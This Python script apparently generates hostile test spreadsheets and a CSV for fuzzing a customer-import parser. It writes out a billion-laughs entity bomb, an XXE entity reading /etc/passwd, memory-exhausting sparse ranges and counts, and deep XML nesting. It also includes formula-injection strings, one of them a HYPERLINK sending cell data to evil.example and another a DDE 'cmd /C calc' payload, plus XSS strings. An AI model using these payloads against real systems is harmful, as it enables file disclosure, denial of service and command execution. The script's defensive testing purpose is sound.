import zipfile, struct, zlib, io, os, random

CT = '''<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>%s</Types>'''
RELS = '''<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'''
WB = '''<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Kunder" sheetId="1" r:id="rId1"/></sheets></workbook>'''
WBRELS = '''<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>%s</Relationships>'''
NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'

def istr(ref, s):
    s = s.replace('&','&amp;').replace('<','&lt;')
    return f'<c r="{ref}" t="inlineStr"><is><t>{s}</t></is></c>'

def sheet(rows_xml, dim=None):
    d = f'<dimension ref="{dim}"/>' if dim else ''
    return f'<?xml version="1.0" encoding="UTF-8"?><worksheet {NS}>{d}<sheetData>{rows_xml}</sheetData></worksheet>'

def xlsx(path, sheet_xml, extra=None, sst=None):
    with zipfile.ZipFile(path, 'w', zipfile.ZIP_DEFLATED) as z:
        z.writestr('[Content_Types].xml', CT % ('<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>' if sst else ''))
        z.writestr('_rels/.rels', RELS)
        z.writestr('xl/workbook.xml', WB)
        z.writestr('xl/_rels/workbook.xml.rels', WBRELS % ('<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>' if sst else ''))
        z.writestr('xl/worksheets/sheet1.xml', sheet_xml)
        if sst:
            z.writestr('xl/sharedStrings.xml', sst)

header = '<row r="1">' + istr('A1','Navn') + istr('B1','Telefon') + '</row>'
good = '<row r="2">' + istr('A2','Sparse AS') + istr('B2','91234567') + '</row>'

# 1. sparse: A1..B2 plus one cell far away -> dense range in calamine
xlsx('sparse-far.xlsx', sheet(header + good + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'))
# moderately far: 1,000,000 rows x 100 cols = 100M cells
xlsx('sparse-100M.xlsx', sheet(header + good + '<row r="1000000"><c r="CV1000000"><v>1</v></c></row>'))
# 10M cells
xlsx('sparse-10M.xlsx', sheet(header + good + '<row r="1000000"><c r="J1000000"><v>1</v></c></row>'))

# 2. sst uniqueCount lie
sst_big = f'<?xml version="1.0" encoding="UTF-8"?><sst {NS} count="1" uniqueCount="4000000000"><si><t>x</t></si></sst>'
xlsx('sst-huge-count.xlsx', sheet(header + good), sst=sst_big)
sst_over = f'<?xml version="1.0" encoding="UTF-8"?><sst {NS} count="1" uniqueCount="18446744073709551615"><si><t>x</t></si></sst>'
xlsx('sst-overflow-count.xlsx', sheet(header + good), sst=sst_over)

# 3. deep nesting XML
deep = '<a>' * 200000 + '</a>' * 200000
xlsx('deep-nest.xlsx', f'<?xml version="1.0" encoding="UTF-8"?><worksheet {NS}><sheetData>' + header + good + '</sheetData>' + deep + '</worksheet>')
# billion laughs (entities)
laughs = '''<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;"><!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;"><!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;"><!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;"><!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;"><!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>'''
xlsx('laughs.xlsx', laughs + f'<worksheet {NS}><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Navn</t></is></c><c r="B1" t="inlineStr"><is><t>Telefon</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>&lol9;</t></is></c><c r="B2" t="inlineStr"><is><t>91234567</t></is></c></row></sheetData></worksheet>')
# XXE
xxe = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
xlsx('xxe.xlsx', xxe + f'<worksheet {NS}><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Navn</t></is></c><c r="B1" t="inlineStr"><is><t>Telefon</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>&xxe;</t></is></c><c r="B2" t="inlineStr"><is><t>91234567</t></is></c></row></sheetData></worksheet>')

# 4. formulas / HTML in names, bad phone so rows get rejected
rows = [header]
evil = ['=HYPERLINK("http://evil.example/?x="&A1,"klikk")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)', '-2+3', '<script>alert(1)</script>', '<img src=x onerror=alert(2)>']
for i, n in enumerate(evil, start=2):
    rows.append(f'<row r="{i}">' + istr(f'A{i}', n) + istr(f'B{i}', '=HYPERLINK("http://evil")') + '</row>')
rows.append('<row r="8">' + istr('A8', 'Grei Kunde AS') + istr('B8', '91234599') + '</row>')
xlsx('formulas.xlsx', sheet(''.join(rows)))
# same as CSV
with open('formulas.csv', 'w', encoding='utf-8') as f:
    f.write('Navn,Telefon\n')
    for n in evil:
        f.write('"' + n.replace('"','""') + '","=HYPERLINK(""http://evil"")"\n')
    f.write('Grei Kunde AS,91234599\n')
# HTML in header / sheet name
